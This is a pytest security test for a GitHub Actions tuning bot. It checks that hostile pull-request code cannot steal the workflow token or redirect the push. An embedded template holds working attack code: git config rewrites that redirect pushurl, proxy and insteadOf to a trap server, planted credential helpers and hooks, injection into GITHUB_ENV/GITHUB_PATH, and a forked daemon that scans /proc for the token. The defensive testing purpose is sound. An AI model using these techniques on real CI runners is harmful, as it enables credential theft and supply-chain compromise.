"""Hostile PR code against the whole GitHub tune job, run as the workflow runs it.

`python -m bot github handle` is a real process with the Actions environment (token, runtime
tokens, file commands). The PR's kernel is hostile: on its first run it rewrites the checkout's
git config (push URL, insteadOf, proxy, hooks path, credential helper), writes git hooks,
appends to $GITHUB_ENV/$GITHUB_PATH, looks for the token in every ancestor's environment and
leaves a daemon behind that watches every process for the token while tunebot pushes.
Expected, written before running it: nothing reaches the trap server, no hook or helper runs
with a credential reachable, the token is in no environment PR code can read, the daemon is
dead before the push, the file commands are as they were, and the push still lands.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fakegithub.harness import make_world
from fakegithub.trap import Trap
from test_github_flow import OP, OP_FILES, bot_comments, proposals, remote_refs

# Unique per run: the scans look at every process of the machine, where other tests may be using
# the fake's default token at the same moment.
TOKEN = "tok" + secrets.token_hex(12)

HOSTILE = r"""
import base64 as _b64, os as _os, subprocess as _sp, time as _time, pathlib as _pl
_EVIDENCE = _pl.Path({evidence!r})
_DONE = _pl.Path({evidence!r} + ".done")
_SECRETS = ({token!r}, _b64.b64encode(b"x-access-token:" + {token!r}.encode()).decode())

def _note(line):
    with _EVIDENCE.open("a") as fh:
        fh.write(line + "\n")

def _scan(label):
    for proc in _pl.Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        for part in ("environ", "cmdline"):
            try:
                data = (proc / part).read_bytes().decode("latin-1")
            except OSError:
                continue
            if any(s in data for s in _SECRETS):
                _note(f"LEAK {{label}} /proc/{{proc.name}}/{{part}}")

if not _DONE.exists():
    _DONE.write_text("x")
    git_dir = {git_dir!r}
    trap = {trap!r}
    cfg = ["git", "config", "--file", git_dir + "/config"]
    _sp.run(cfg + ["remote.origin.pushurl", trap + "/steal.git"])
    _sp.run(cfg + ["url." + trap + "/x/.insteadOf", {server!r} + "/"])
    _sp.run(cfg + ["http.proxy", trap])
    _sp.run(cfg + ["credential.helper", "!f() {{ echo helper-ran >> " + str(_EVIDENCE) + "; }}; f"])
    hooks = _pl.Path(git_dir) / "evil-hooks"
    for where in (hooks, _pl.Path(git_dir) / "hooks"):
        where.mkdir(exist_ok=True)
        for name in ("pre-push", "reference-transaction", "post-checkout", "post-commit"):
            hook = where / name
            # grep -f: the token must not be in any argv the daemon scans (that would be this test's own doing)
            _pl.Path(str(_EVIDENCE) + ".pattern").write_text({token!r} + "\n")
            ev = str(_EVIDENCE)
            hook.write_text("#!/bin/sh\necho hook-" + name + " >> " + ev + "\n"
                            + "env | grep -qF -f " + ev + ".pattern && echo LEAK-hook-env >> " + ev
                            + "\nexit 0\n")
            hook.chmod(0o755)
    _sp.run(cfg + ["core.hooksPath", str(hooks)])
    for name, line in (("GITHUB_ENV", "EVIL=1"), ("GITHUB_PATH", "/tmp/evil-bin")):
        _note(f"env {{name}}={{_os.environ.get(name)}}")
        with open({file_commands!r}[name], "a") as fh:
            fh.write(line + "\n")
    for key, value in _os.environ.items():
        if any(s in value for s in _SECRETS) or key.startswith(("ACTIONS_", "GITHUB_TOKEN", "INPUT_")):
            _note(f"LEAK own-env {{key}}")
    _scan("kernel")
    if _os.fork() == 0:  # a daemon that outlives the kernel and watches for the token
        _os.setsid()
        if _os.fork() == 0:
            _pl.Path({daemon_pid!r}).write_text(str(_os.getpid()))
            end = _time.time() + 120
            while _time.time() < end:
                _scan("daemon")
                _time.sleep(0.01)
            _note("daemon survived")
            _os._exit(0)
        _os._exit(0)
    _time.sleep(0.2)
"""


@pytest.fixture
def trap():
    t = Trap()
    yield t
    t.stop()


def test_hostile_pr_code_cannot_steal_the_token_or_redirect_the_push(tmp_path, trap):
    world = make_world(tmp_path, OP_FILES)
    world.fake.token = TOKEN
    try:
        world.fake.set_permission("dev", "write")
        runner = world.clone(tmp_path / "runner")
        evidence = tmp_path / "evidence.txt"
        daemon_pid = tmp_path / "daemon.pid"
        files = {
            name: tmp_path / name.lower()
            for name in (
                "GITHUB_ENV",
                "GITHUB_PATH",
                "GITHUB_OUTPUT",
                "GITHUB_STEP_SUMMARY",
                "GITHUB_STATE",
            )
        }
        for path in files.values():
            path.write_text("KEEP=1\n")
        server = world.fake.base_url + "/html"
        hostile = HOSTILE.format(
            evidence=str(evidence),
            token=TOKEN,
            git_dir=str(runner / ".git"),
            trap=trap.url,
            server=world.fake.base_url,
            file_commands={k: str(v) for k, v in files.items()},
            daemon_pid=str(daemon_pid),
        )
        source = OP_FILES[f"examples/{OP}/sleepy.py"]
        # this kernel leaves evidence in files outside its sandbox, so the file-system confinement
        # (tests/test_fault_*.py) is switched off here: the test checks the other defences
        tune_yaml = OP_FILES[f"examples/{OP}/tune.yaml"] + "limits:\n  filesystem: open\n"
        head = world.push_branch(
            "feature",
            {f"examples/{OP}/sleepy.py": hostile + source, f"examples/{OP}/tune.yaml": tune_yaml},
            "hostile kernel",
        )
        number = world.fake.open_pull("feature", user="dev")
        event = tmp_path / "event.json"
        event.write_text(
            json.dumps(world.fake.comment_event(number, "/tune sleepy --max-iters 1", "dev"))
        )
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(tmp_path),
            "GITHUB_EVENT_NAME": "issue_comment",
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_API_URL": world.fake.base_url,
            "GITHUB_REPOSITORY": world.fake.full_name,
            "GITHUB_SERVER_URL": server,
            "GITHUB_TOKEN": TOKEN,
            "ACTIONS_RUNTIME_TOKEN": TOKEN,
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": TOKEN,
            "INPUT_TOKEN": TOKEN,
            **{k: str(v) for k, v in files.items()},
        }

        proc = subprocess.run(
            [sys.executable, "-m", "bot", "github", "handle", "--checkout", str(runner)],
            env=env,
            capture_output=True,
            text=True,
            timeout=600,
            cwd=tmp_path,
        )

        assert proc.returncode == 0, proc.stdout + proc.stderr
        seen = evidence.read_text().splitlines()
        # The kernel really ran and really tried.
        assert "env GITHUB_ENV=None" in seen and "env GITHUB_PATH=None" in seen
        # Nothing with (or without) the token went anywhere but the repository's URL.
        assert trap.seen == []
        assert any(r.path == "/git-receive-pack" for r in world.fake.git_requests)
        # No environment PR code could read ever held the token, and no PR-planted hook/helper saw it.
        assert not [line for line in seen if "LEAK" in line], seen
        assert "helper-ran" not in seen
        assert "hook-pre-push" not in seen  # the push never ran a hook
        # The daemon was killed before the push (it would have scanned the push's git processes).
        pid = int(daemon_pid.read_text())
        time.sleep(0.1)
        assert (
            not Path(f"/proc/{pid}").exists()
            or "Z" in Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1][:3]
        )
        assert "daemon survived" not in seen
        # File commands are exactly as before the step (plus tunebot's own outputs).
        assert (
            files["GITHUB_ENV"].read_text() == "KEEP=1\n"
            and files["GITHUB_PATH"].read_text() == "KEEP=1\n"
        )
        assert (
            files["GITHUB_OUTPUT"].read_text().startswith("KEEP=1\n")
            and "authorized=true" in files["GITHUB_OUTPUT"].read_text()
        )
        assert "wrote to $GITHUB_ENV" in proc.stderr
        # And the work still landed, through the explicit URL.
        assert "refs/heads/tunebot/sleepy/best" in remote_refs(world) and len(proposals(world)) == 1
        assert world.fake.git("rev-parse", f"refs/tunebot/runs/{OP}")
        assert world.fake.head_sha(number) == head
        assert len([c for c in bot_comments(world, number) if "tunebot:status:" in c.body]) == 1
        world.fake.assert_no_violations()
    finally:
        world.fake.stop()


def test_the_push_authenticates_only_to_the_repository_url(tmp_path):
    """Every git request carrying a credential went to GITHUB_SERVER_URL/GITHUB_REPOSITORY.git."""
    world = make_world(tmp_path, OP_FILES)
    world.fake.token = TOKEN
    try:
        from bot.remote_runs import RemoteRuns

        runner = world.clone(tmp_path / "runner")
        base = world.fake.git("rev-parse", "main")
        subprocess.run(
            ["git", "-C", str(runner), "branch", "tunebot/sleepy/best", base], check=True
        )
        RemoteRuns(world.fake.git_url, TOKEN, runner).push_branches("tunebot/sleepy/best", base)
        expected = "Basic " + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode()
        authed = [r for r in world.fake.git_requests if r.authorization]
        assert authed and all(r.authorization == expected for r in authed)
        assert world.fake.branches()["tunebot/sleepy/best"] == base
    finally:
        world.fake.stop()
